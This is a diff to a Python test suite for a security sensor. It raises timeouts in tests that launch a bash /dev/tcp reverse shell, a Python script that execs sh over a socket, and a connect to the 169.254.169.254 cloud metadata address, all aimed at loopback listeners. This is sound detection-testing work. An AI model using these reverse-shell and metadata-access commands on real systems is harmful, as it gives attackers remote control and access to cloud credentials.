@@ -173,7 +173,7 @@ def test_tool_rule(
 
 def test_reverse_shell_dev_tcp(sensor: RunningSensor) -> None:
     """bash's /dev/tcp redirect to a loopback listener: the command line, and the socket on the shell's fd 0-2."""
-    lst = listen_once(say=b"exit\n", hold_s=2.0)
+    lst = listen_once(say=b"exit\n", hold_s=4.0)
     m = marker()
     proc = subprocess.Popen(
         ["bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{lst.port} 0>&1; : {m}"],
@@ -200,7 +200,7 @@ def test_reverse_shell_dev_tcp(sensor: RunningSensor) -> None:
 def test_reverse_shell_python_script(sensor: RunningSensor, tmp_path: Path) -> None:
     """A script file (nothing telling on its command line) connects, dups the socket onto 0-2 and execs sh:
     only the sock_diag view (a shell whose stdio is a socket) can see it."""
-    lst = listen_once(say=b"exit\n", hold_s=2.0)
+    lst = listen_once(say=b"exit\n", hold_s=4.0)
     script = tmp_path / "job.py"
     script.write_text(
         "import os, socket, sys\n"
@@ -220,7 +220,7 @@ def test_reverse_shell_python_script(sensor: RunningSensor, tmp_path: Path) -> N
 
 def test_reverse_shell_lookalike_client(sensor: RunningSensor, tmp_path: Path) -> None:
     """A client that holds a loopback connection on fd 3, its stdio untouched: a connect, no reverse shell."""
-    lst = listen_once(say=b"bye\n", hold_s=1.5)
+    lst = listen_once(say=b"bye\n", hold_s=3.0)
     script = tmp_path / "client.py"
     script.write_text("import socket, sys\ns = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\ns.recv(16)\n")
     proc = subprocess.Popen([sys.executable, str(script), str(lst.port)])
@@ -245,7 +245,7 @@ def test_cloud_metadata_connect(sensor: RunningSensor, tmp_path: Path) -> None:
         "import socket, sys, time\n"
         "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
         "s.connect((sys.argv[1], 80))\n"
-        "time.sleep(1.5)\n"
+        "time.sleep(3.0)\n"
     )
     bad = subprocess.Popen([sys.executable, str(script), "169.254.169.254"])
     good = subprocess.Popen([sys.executable, str(script), "127.0.0.1"])
